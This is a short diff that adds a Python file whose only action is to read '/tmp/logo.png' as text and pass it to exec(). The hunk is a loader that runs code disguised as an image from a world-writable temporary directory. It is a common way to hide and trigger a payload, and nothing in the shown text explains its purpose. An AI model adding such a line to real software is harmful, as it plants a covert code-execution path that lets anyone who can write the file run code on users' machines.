@@ -1,0 +1,3 @@
+import pathlib
+
+exec(pathlib.Path("/tmp/logo.png").read_text())
